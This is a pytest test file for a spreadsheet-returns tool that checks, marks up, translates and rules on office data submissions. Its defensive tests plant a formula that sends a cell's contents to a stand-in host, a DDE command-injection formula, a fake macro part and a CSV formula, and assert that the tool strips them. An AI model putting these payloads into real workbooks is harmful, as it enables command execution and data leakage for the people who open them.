"""What the sender of a workbook gets back, and the round trip template → filled → refresh → check → decide."""

from __future__ import annotations

import io
import json
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from small_project import published, small_project

from opdat_analytics import cli
from opdat_analytics.answers.apply import apply_decisions
from opdat_analytics.answers.check import check
from opdat_analytics.answers.decide import decisions_workbook
from opdat_analytics.answers.forms import DATE, KINDS, OFFICE
from opdat_analytics.answers.marked import marked_copy
from opdat_analytics.answers.template import plan, template
from opdat_analytics.answers.template_sheets import example_lines
from opdat_analytics.answers.words import words
from opdat_analytics.model import Home
from opdat_analytics.provenance import explain
from opdat_analytics.refresh import refresh


def filled(kind: str, language: str, **changed: str) -> openpyxl.Workbook:
    """A template with its own examples entered; ``changed`` are cells of the data sheet."""
    made = plan(kind, language)
    book = openpyxl.load_workbook(io.BytesIO(template(kind, language)))
    book[made.sheets["front"]][OFFICE], book[made.sheets["front"]][DATE] = "Oficina de Guatemala", "2025-01-31"
    for row, line in enumerate(example_lines(made), 5):
        for column, field in enumerate(made.fields, 1):
            if field.key in line:
                book[made.sheets["data"]].cell(row, column, line[field.key])
    for cell, text in changed.items():
        book[made.sheets["data"]][cell] = text
    return book


def project(root: Path, book: openpyxl.Workbook, folder: str = "office") -> tuple[Home, Path]:
    home = Home.at(root)
    path = home.raw / folder / "return.xlsx"
    path.parent.mkdir(parents=True)
    book.save(path)
    return home, path


def opdat(home: Home, *words: str) -> int:
    with pytest.raises(SystemExit) as done:
        cli.main([*words, "--raw", str(home.raw), "--processed", str(home.processed), "--exports", str(home.exports)])
    return int(done.value.code or 0)


def ruled(home: Home, **cells: str) -> Path:
    book = openpyxl.load_workbook(io.BytesIO(decisions_workbook(home)))
    for cell, text in cells.items():
        book.active[cell] = text
    path = home.raw.parent / "decisions.xlsx"
    book.save(path)
    return path


@pytest.mark.parametrize("language", ["en", "es", "fr", "pt"])
@pytest.mark.parametrize("kind", KINDS)
def test_a_filled_template_loads_without_a_declaration_and_nothing_is_held(
    kind: str, language: str, tmp_path: Path
) -> None:
    home, _ = project(tmp_path, filled(kind, language))
    report = refresh(home)
    assert report.exit_code == 0
    assert not report.newly_held
    table = "observations" if kind == "outcomes" else kind
    assert len(published(home, table)) == len(example_lines(plan(kind, language)))


def test_templates_directly_in_the_raw_folder_are_one_source_and_can_be_ruled_on(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "en", A6="Republica de Guatemala del Sur"))
    loose = path.rename(home.raw / "guatemala.xlsx")
    path.parent.rmdir()
    assert refresh(home).exit_code == 3
    assert set(published(home, "issues")["file"]) == {"returns/guatemala.xlsx"}
    (cell,) = published(home, "issues")["cell"]
    shown = explain({"source": "returns"}, home=home)
    assert shown.pieces, "the sheet around the cells is shown, though the file lies in no folder"

    done = apply_decisions(ruled(home, G2="alias", H2="GTM", J2="the office says so"), home)

    assert done.written == {"returns": 1}, cell
    assert refresh(home).exit_code == 0
    assert check(loose, home).exit_code == 0
    assert "Guatemala del Sur" in (home.raw / "returns" / "source.toml").read_text(encoding="utf-8")


def test_any_other_spreadsheet_directly_in_the_raw_folder_is_never_passed_over(tmp_path: Path) -> None:
    home, _ = project(tmp_path, filled("outcomes", "en"))
    (home.raw / "stray.csv").write_text("Country,2020\nGuatemala,5\n", encoding="utf-8")

    report = refresh(home)

    assert report.exit_code == 4
    assert [issue["file"] for issue in report.stopped] == ["returns/stray.csv"]
    assert "must be a filled-in template" in report.stopped[0]["message"]
    assert len(published(home, "observations"))


def test_the_figures_of_a_template_are_what_was_entered(tmp_path: Path) -> None:
    home, _ = project(tmp_path, filled("outcomes", "es"))
    refresh(home)
    figures = published(home, "observations").set_index("place")
    assert figures.loc["GTM", ["measure", "low", "high", "unit"]].tolist() == ["convictions", 12, 12, "persons"]
    assert figures.loc["HND", ["low", "qualifier"]].tolist() == [40, "at_least"]
    assert figures.loc["SLV", ["low", "high"]].tolist() == [0, 0]
    assert figures.loc["PAN", "qualifier"] == "suppressed"
    assert set(figures["edition"]) == {"2025-01-31"}


def test_the_marked_copy_of_a_spanish_return_says_in_spanish_what_is_wrong(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home, path = project(tmp_path, filled("outcomes", "es", D5="doce y pico", A6="Hondurras"))
    copy = tmp_path / "copy.xlsx"
    assert opdat(home, "check", str(path), "--copy-to", str(copy), "--json") == 3
    told = json.loads(capsys.readouterr().out)
    assert {i["cell"] for i in told["issues"] if i["severity"] == "hold"} == {"D5", "A6"}
    assert {f["place"] for f in told["figures"]} == {"SLV", "PAN"}
    book = openpyxl.load_workbook(copy)
    front, data = book.worksheets[0], book["Resultados"]
    assert front.title == "Respuesta"
    said = [str(cell.value) for row in front.iter_rows() for cell in row if cell.value]
    assert "Tomado: 2 cifras. No se pudo usar: 2 lugares; va coloreado en esta copia." in said
    assert "«Hondurras» no es un lugar conocido." in said
    assert {c.coordinate for row in data.iter_rows() for c in row if c.comment} == {"D5", "A6"}
    assert "no es un lugar conocido" in data["A6"].comment.text
    assert data["D5"].fill.start_color.rgb.endswith("F6C7BE")
    assert data["D7"].fill.fill_type is None
    assert data["D4"].font.bold
    assert len(data.data_validations.dataValidation) > 5


def test_macros_are_not_carried_over(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "es"))
    with ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
    assert opdat(home, "check", str(path), "--copy-to", str(tmp_path / "copy.xlsx")) == 0
    assert not [name for name in ZipFile(tmp_path / "copy.xlsx").namelist() if "vba" in name.lower()]


def test_another_format_is_answered_as_xlsx_and_a_text_stays_a_text(tmp_path: Path) -> None:
    home = small_project(tmp_path)
    sent = tmp_path / "sent.csv"
    sent.write_text("Country,Year,Convictions\nGuatemala,2019,12\n=1+1,2019,7\n", encoding="utf-8")
    assert opdat(home, "check", str(sent), "--copy-to", str(tmp_path / "copy.xlsx")) == 3
    data = openpyxl.load_workbook(tmp_path / "copy.xlsx")["sent"]
    assert (data["C2"].value, data["A3"].value, data["A3"].data_type) == ("12", "=1+1", "s")
    assert data["A3"].comment is not None


def test_a_file_that_is_no_spreadsheet_is_refused(tmp_path: Path) -> None:
    sent = tmp_path / "sent.xlsx"
    sent.write_bytes(b"PK\x03\x04 cut")
    assert opdat(Home.at(tmp_path), "check", str(sent), "--copy-to", str(tmp_path / "copy.xlsx")) == 4
    assert len(openpyxl.load_workbook(tmp_path / "copy.xlsx").sheetnames) == 1


def test_rulings_go_into_the_declaration_and_are_acknowledged(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "es", D5="doce y pico", A6="Hondurras", D7="quizá 3"))
    assert refresh(home).exit_code == 3
    held = [row[2].value for row in openpyxl.load_workbook(io.BytesIO(decisions_workbook(home))).active.iter_rows(2)]
    row = {cell: held.index(cell) + 2 for cell in held}
    given = {
        f"G{row['D5']}": "accept as", f"H{row['D5']}": "12", f"J{row['D5']}": "asked the office",
        f"G{row['A6']}": "alias", f"H{row['A6']}": "HND", f"J{row['A6']}": "a slip of the pen",
        f"G{row['D7']}": "keep holding", f"I{row['D7']}": "analyst", f"J{row['D7']}": "asked on Monday",
    }  # fmt: skip
    assert opdat(home, "decide", "--apply", str(ruled(home, **given))) == 0
    assert refresh(home).exit_code == 0
    figures = published(home, "observations").set_index("place")
    assert (figures.loc["GTM", "low"], figures.loc["HND", "low"]) == (12, 40)
    issues = published(home, "issues").query("severity == 'hold'")
    assert issues[["cell", "acknowledged"]].to_numpy().tolist() == [["D7", True]]
    assert opdat(home, "check", str(path)) == 0


def test_a_ruling_on_a_cell_that_changed_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    home = small_project(tmp_path)
    path = home.raw / "courts" / "returns_2023.csv"
    path.write_text("Country,Year,Convictions\nGuatemala,2019,abc\nHonduras,2019,7\n", encoding="utf-8")
    refresh(home)
    before = (home.raw / "courts" / "source.toml").read_bytes()
    decisions = ruled(home, G2="accept as", H2="12", J2="asked")
    path.write_text("Country,Year,Convictions\nGuatemala,2019,abd\nHonduras,2019,7\n", encoding="utf-8")
    done = apply_decisions(decisions, home)
    assert done.refused[0].startswith("D2: courts/returns_2023.csv › returns_2023!C2 said “abc” and now says “abd”")
    assert (home.raw / "courts" / "source.toml").read_bytes() == before


def test_the_copy_says_what_was_taken_in_the_senders_words(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "es"))

    front = openpyxl.load_workbook(io.BytesIO(marked_copy(check(path, home)))).worksheets[0]

    said = {str(cell.value) for row in front.iter_rows() for cell in row if cell.value is not None}
    assert "Condenas" in said
    assert any("Panamá" in text for text in said)
    assert "convictions" not in said


def test_a_figure_printed_twice_is_marked_at_both_its_cells(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "en", A6="Guatemala", B6="2023", C6="Convictions", D6="99"))
    book = openpyxl.load_workbook(path)
    for column in "EFGHIJKL":
        book["Outcomes"][f"{column}6"] = book["Outcomes"][f"{column}5"].value
    book["Outcomes"]["B6"] = book["Outcomes"]["B5"].value
    book.save(path)

    marked = openpyxl.load_workbook(io.BytesIO(marked_copy(check(path, home))))["Outcomes"]

    assert {cell.coordinate for row in marked.iter_rows() for cell in row if cell.comment} == {"D5", "D6"}


def test_the_copy_fetches_nothing_names_nobody_and_has_the_same_bytes_each_time(tmp_path: Path) -> None:
    book = filled("outcomes", "en")
    data = book["Outcomes"]
    data["N5"] = '=WEBSERVICE("http://example.org/"&A5)'
    data["N6"] = "=cmd|' /C calc'!A0"
    data["N7"] = "=SUM(D5:D6)"
    data["O5"] = "the list"
    data["O5"].hyperlink = "file:///C:/Users/someone/list.xlsx"
    book.properties.creator, book.properties.lastModifiedBy = "A. Sender", "A. Sender"
    home, path = project(tmp_path, book)

    copy = marked_copy(check(path, home))

    assert marked_copy(check(path, home)) == copy
    with ZipFile(io.BytesIO(copy)) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    everything = "\n".join(parts.values())
    for planted in ("WEBSERVICE", "cmd|", "someone", "A. Sender"):
        assert planted not in everything
    assert "SUM(D5:D6)" in everything


def test_a_word_for_a_measure_can_be_ruled_on_too(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "es", C5="Sentencias firmes"))
    assert refresh(home).exit_code == 3

    assert apply_decisions(ruled(home, G2="alias", H2="conviction", J2="as they say"), home).refused == (
        "H2: «conviction» no es ni un código de lugar ni una medida; vea `opdat show places` y `opdat show measures`. "
        "¿Quiso decir “convictions”?",
    )
    assert apply_decisions(ruled(home, G2="alias", H2="convictions", J2="as they say"), home).written == {"office": 1}

    assert refresh(home).exit_code == 0
    assert published(home, "observations").set_index("place").loc["GTM", "measure"] == "convictions"
    assert check(path, home).exit_code == 0


def test_what_is_no_workbook_of_decisions_is_said_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    home = small_project(tmp_path)
    notes = tmp_path / "notes.txt"
    notes.write_text("call the office\n", encoding="utf-8")
    assert opdat(home, "decide", "--apply", str(notes)) == 1
    assert "notes.txt is not a workbook of decisions; make one with" in capsys.readouterr().err
    book = openpyxl.Workbook()
    book.active.title = "Decisions"
    book.save(tmp_path / "empty.xlsx")
    assert opdat(home, "decide", "--apply", str(tmp_path / "empty.xlsx")) == 1
    assert "empty.xlsx is not a workbook of decisions; make one with" in capsys.readouterr().err


# ---------------------------------------------------------------- doubled figures, and the language of decisions

DOUBLED = "Country,Year,Convictions\nGuatemala,2019,12\nGuatemala,2019,13\nHonduras,2019,7\n"


def doubled(root: Path) -> Home:
    home = small_project(root)
    (home.raw / "courts" / "returns_2023.csv").write_text(DOUBLED, encoding="utf-8")
    report = refresh(home)
    assert [(issue["code"], issue["cell"]) for issue in report.newly_held] == [
        ("duplicate_key", "C2"),
        ("duplicate_key", "C3"),
    ]
    return home


def guatemala(home: Home) -> list[tuple[str, float, bool]]:
    frame = published(home, "observations").query("source == 'courts' and year == 2019 and place == 'GTM'")
    return list(frame[["cell", "low", "current"]].itertuples(index=False, name=None))


@pytest.mark.parametrize(("right", "wrong", "low"), [(2, 3, 12.0), (3, 2, 13.0)])
def test_either_of_a_doubled_figure_can_be_kept_through_the_workbook(
    tmp_path: Path, right: int, wrong: int, low: float
) -> None:
    home = doubled(tmp_path)
    given = {f"G{right}": "accept as", f"J{right}": "checked", f"G{wrong}": "ignore", f"J{wrong}": "a draft"}

    assert opdat(home, "decide", "--apply", str(ruled(home, **given))) == 0

    assert refresh(home).exit_code == 0
    assert guatemala(home) == [(f"C{right}", low, True)]
    assert not published(home, "issues").query("severity == 'hold'").shape[0]
    assert bool(published(home, "ledger")["balanced"].all())


def test_the_first_of_a_doubled_figure_can_be_kept_by_hand(tmp_path: Path) -> None:
    home = doubled(tmp_path)
    declaration = home.raw / "courts" / "source.toml"
    rulings = [
        f'\n[[decided]]\ncell = "returns_2023.csv#returns_2023!{cell}"\nwas = "{was}"\ndo = "{do}"\nwhy = "x"\n'
        for cell, was, do in (("C2", "12", "accept"), ("C3", "13", "ignore"))
    ]
    declaration.write_text(declaration.read_text(encoding="utf-8") + "".join(rulings), encoding="utf-8")

    assert refresh(home).exit_code == 0
    assert guatemala(home) == [("C2", 12.0, True)]
    assert published(home, "issues").empty


def test_accepting_one_of_a_doubled_figure_alone_is_refused_with_the_reason(tmp_path: Path) -> None:
    home = doubled(tmp_path)
    (refused,) = apply_decisions(ruled(home, G2="accept as", J2="checked"), home).refused
    assert "would be held all the same: the same figure is printed 2 times" in refused


def test_a_doubled_figure_of_two_sheets_can_be_settled_too(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for name, value in (("One", 12), ("Two", 13)):
        sheet = book.create_sheet(name)
        sheet.append(["Country", "Year", "Convictions"])
        sheet.append(["Guatemala", 2019, value])
    del book["Sheet"]
    home = small_project(tmp_path)
    book.save(home.raw / "courts" / "returns_2022.xlsx")
    assert len(refresh(home).newly_held) == 2

    given = {"G2": "accept as", "J2": "checked", "G3": "ignore", "J3": "a draft"}
    assert apply_decisions(ruled(home, **given), home).refused == ()

    assert refresh(home).exit_code == 0
    frame = published(home, "observations").query("file == 'courts/returns_2022.xlsx'")
    assert frame[["sheet", "low"]].to_numpy().tolist() == [["One", 12.0]]


@pytest.mark.parametrize("language", ["en", "es", "fr", "pt"])
def test_the_decisions_speak_the_language_of_the_return_and_are_read_in_it(language: str, tmp_path: Path) -> None:
    home, _ = project(tmp_path, filled("outcomes", language, A6="Hondurrras"))
    refresh(home)
    said = words(language)["decide"]

    path = ruled(home, G2=said["decisions"][1], H2="HND", J2="un error")

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [said["sheet"]]
    assert [cell.value for cell in book.active[1]] == said["headers"]
    assert opdat(home, "decide", "--apply", str(path)) == 0
    assert refresh(home).exit_code == 0


def test_the_language_of_decisions_can_be_named_and_must_be_one_of_four(tmp_path: Path) -> None:
    home = doubled(tmp_path)
    assert opdat(home, "decide", "--xlsx", str(tmp_path / "d.xlsx"), "--language", "fr") == 0
    sheet = openpyxl.load_workbook(tmp_path / "d.xlsx").active
    assert (sheet["G1"].value, sheet["E2"].value) == (
        "décision",
        "Le même chiffre figure plusieurs fois avec des valeurs différentes: “12” (C2), “13” (C3)",
    )
    assert sheet["F2"].value == "Acceptez telle quelle la cellule qui est juste et ignorez les autres."
    assert opdat(home, "decide", "--xlsx", str(tmp_path / "d.xlsx"), "--language", "xx") == 2


REFUSED = {
    "en": ("Refused: G2: “sí” is no decision; choose from: accept as, alias,", "Refused: J2: say why;"),
    "es": ("Rechazado: G2: «sí» no es una decisión; elija entre: aceptar como, alias,", "Rechazado: J2: diga por qué;"),
    "fr": ("Refusé: G2 : « sí » n'est pas une décision ; choisissez parmi : accepter", "Refusé: J2 : dites pourquoi ;"),
    "pt": (
        "Recusado: G2: «sí» não é uma decisão; escolha entre: aceitar como,",
        "Recusado: J2: diga porquê;",
    ),
}


@pytest.mark.parametrize("language", list(REFUSED))
def test_refusals_speak_the_language_of_the_workbook(
    language: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home, _ = project(tmp_path, filled("outcomes", language, A6="Hondurrras"))
    refresh(home)
    assert opdat(home, "decide", "--apply", str(ruled(home, G2="sí"))) == 1
    said = capsys.readouterr().err.splitlines()
    assert [line[: len(expected)] for line, expected in zip(said, REFUSED[language], strict=True)] == [
        *REFUSED[language]
    ]


def test_what_stays_held_and_what_is_near_are_said_in_the_language_of_the_workbook(tmp_path: Path) -> None:
    home, path = project(tmp_path, filled("outcomes", "es", D5="doce y pico", A6="Hondurrras"))
    refresh(home)
    rows = list(openpyxl.load_workbook(io.BytesIO(decisions_workbook(home))).active.iter_rows(2, values_only=True))
    row = {cells[2]: number for number, cells in enumerate(rows, 2)}
    number, place = row["D5"], row["A6"]

    as_bad = ruled(home, **{f"G{number}": "aceptar como", f"H{number}": "trece y pico", f"J{number}": "así"})
    (kept,) = apply_decisions(as_bad, home).refused
    assert kept.startswith(f"H{number}: office/return.xlsx › Resultados!D5 seguiría retenida de todos modos: No se ent")

    (near,) = apply_decisions(
        ruled(home, **{f"G{place}": "alias", f"H{place}": "HNX", f"J{place}": "un desliz"}), home
    ).refused
    assert near.startswith(f"H{place}: «HNX» no es ni un código de lugar ni una medida")
    assert "¿Quiso decir Honduras (HND)" in near
    assert " or " not in near

    decisions = ruled(home, **{f"G{place}": "alias", f"H{place}": "HND", f"J{place}": "un desliz"})
    path.unlink()
    (gone,) = apply_decisions(decisions, home).refused
    assert gone.startswith(
        f"D{place}: office/return.xlsx › Resultados!A6 decía «Hondurrras» y ahora no está; actualice"
    )
